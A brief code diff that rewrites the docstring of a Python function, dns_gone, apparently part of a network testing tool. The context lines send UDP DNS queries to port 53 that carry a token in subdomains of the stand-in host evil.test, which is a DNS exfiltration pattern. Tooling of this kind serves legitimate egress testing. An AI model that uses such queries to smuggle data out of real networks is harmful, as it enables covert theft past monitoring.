@@ -69,7 +69,7 @@ def dns(a):
 
 
 def dns_gone(a):
-    """Questions of which nobody waits for the answer: the error that the kernel sends then holds it."""
+    """Questions whose socket is closed before the answer: the kernel's error then quotes the answer."""
     for i in range(a["n"]):
         s = socket.socket(family(a["server"]), socket.SOCK_DGRAM)
         s.sendto(wire.dns_query("%s%d.evil.test" % (a["token"], i)), (a["server"], 53))
